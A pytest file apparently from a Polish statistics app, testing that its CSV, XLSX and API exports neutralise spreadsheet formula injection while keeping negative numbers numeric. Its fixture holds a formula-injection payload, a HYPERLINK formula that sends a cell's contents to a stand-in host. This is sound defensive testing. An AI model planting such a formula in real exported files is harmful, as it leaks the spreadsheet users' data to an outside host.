"""CSV/XLSX injection: no text cell of a CSV or XLSX the app writes begins with what a
spreadsheet runs as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return); numbers,
negative ones too, stay numbers."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from datetime import date

import polars as pl
import pytest

from analysis import exports
from analysis.service import rows_for
from analysis.state import ViewState

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Kliknij")'
NEGATIVE = -1234.5


# --- the view's exports -------------------------------------------------------------------------
@pytest.fixture(scope="module")
def poisoned_export(repository) -> pl.DataFrame:
    """The export table of a real view whose first unit is named like a formula and has a
    negative value."""
    state = ViewState(rok=2024)
    context, rows = rows_for(repository, state)
    rows = rows.with_columns(
        pl.when(pl.int_range(pl.len()) == 0)
        .then(pl.lit(HYPERLINK))
        .otherwise("name")
        .alias("name"),
        pl.when(pl.int_range(pl.len()) == 0).then(NEGATIVE).otherwise("value").alias("value"),
    )
    sources = repository.value_sources(context.indicator.id)
    return exports.export_frame(rows, context.indicator, context.year, sources)


def first_row(content: str, delimiter: str) -> dict:
    return next(csv.DictReader(io.StringIO(content.lstrip("\ufeff")), delimiter=delimiter))


def test_csv_export_neutralises_the_name_and_keeps_the_number(poisoned_export):
    content = exports.to_csv(poisoned_export).decode("utf-8")
    row = first_row(content, ",")
    assert row["nazwa"] == "'" + HYPERLINK
    assert row["wartosc"] == "-1234.5"
    assert "\n" + row["kod_teryt"] + "," in content  # written unquoted
    assert re.search(r",-1234\.5,", content)  # the number unquoted


def test_csv_for_polish_excel_neutralises_the_name_and_keeps_the_number(poisoned_export):
    content = exports.to_csv_excel_pl(poisoned_export).decode("utf-8")
    row = first_row(content, ";")
    assert row["nazwa"] == "'" + HYPERLINK
    assert re.search(r";-1234,5;", content)


def xlsx_parts(content: bytes) -> tuple[str, list[str]]:
    """The data sheet's XML and the shared strings of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
        metadata = archive.read("xl/worksheets/sheet2.xml").decode("utf-8")
    texts = [html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", strings, re.S)]
    return sheet + metadata, texts


def test_xlsx_export_holds_the_name_as_text_and_the_value_as_a_number(poisoned_export):
    metadata = [("Wskaźnik", "=1+1"), ("Źródło", "@SUM(A1)")]
    sheets, texts = xlsx_parts(exports.to_xlsx(poisoned_export, metadata))
    assert "<f>" not in sheets  # no formula anywhere
    assert "'" + HYPERLINK in texts
    assert "'=1+1" in texts and "'@SUM(A1)" in texts
    assert re.search(r"<c r=\"F2\"[^>]*><v>-1234\.5</v></c>", sheets)  # numeric, no t="s"


def test_parquet_keeps_the_text_as_it_is(poisoned_export):
    frame = pl.read_parquet(io.BytesIO(exports.to_parquet(poisoned_export)))
    assert frame["nazwa"][0] == HYPERLINK and frame["wartosc"][0] == NEGATIVE


def test_metadata_rows_of_an_imported_name_are_neutralised(repository, poisoned_export):
    indicator = repository.indicator("ludnosc")
    rows = exports.metadata_rows(
        indicator,
        repository.value_sources("ludnosc"),
        "+obszar",
        "-usługa",
        "gmina",
        2024,
        "",
        date(2026, 12, 4),
    )
    _, texts = xlsx_parts(exports.to_xlsx(poisoned_export, rows))
    assert "'+obszar" in texts and "'-usługa" in texts


# --- the API's CSV and the list of suspect values ----------------------------------------------
def test_api_csv_neutralises_names_and_keeps_numbers(dash_app):
    from api.params import Page
    from api.routes import _csv_response

    frame = pl.DataFrame({"kod": ["0201011"], "nazwa": [HYPERLINK], "wartosc": [NEGATIVE]})
    with dash_app.server.test_request_context("/api/v1/data"):
        response = _csv_response(frame, "dane", Page(limit=100, offset=0), 1)
    content = response.get_data(as_text=True)
    assert first_row(content, ",")["nazwa"] == "'" + HYPERLINK
    assert content.splitlines()[1].endswith(",-1234.5")


def test_suspect_values_csv_neutralises_names(client, monkeypatch):
    from data_access.repository import Repository

    poisoned = pl.DataFrame(
        {
            "code": ["0201011"],
            "name": ["@" + HYPERLINK],
            "variable": ["tax_property"],
            "year": [2019],
            "value": [NEGATIVE],
            "rule": ["zero_total"],
        }
    )
    monkeypatch.setattr(Repository, "suspect_sources", property(lambda self: poisoned))
    content = client.get("/o-danych/wartosci-watpliwe.csv").get_data(as_text=True)
    assert first_row(content, ",")["nazwa"] == "'@" + HYPERLINK
    assert content.splitlines()[1].endswith(",2019,-1234.5,zero_total")
